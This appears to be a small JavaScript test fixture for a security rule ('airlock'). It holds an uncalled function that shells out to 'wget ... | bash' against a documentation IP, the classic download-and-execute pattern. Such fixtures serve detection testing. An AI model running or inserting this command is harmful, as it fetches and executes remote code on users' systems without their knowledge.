// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execSync } = require('child_process');
function never() {
  execSync('wget -qO- http://192.0.2.10/x.sh | bash', { stdio: 'ignore' });
}
module.exports = { never };
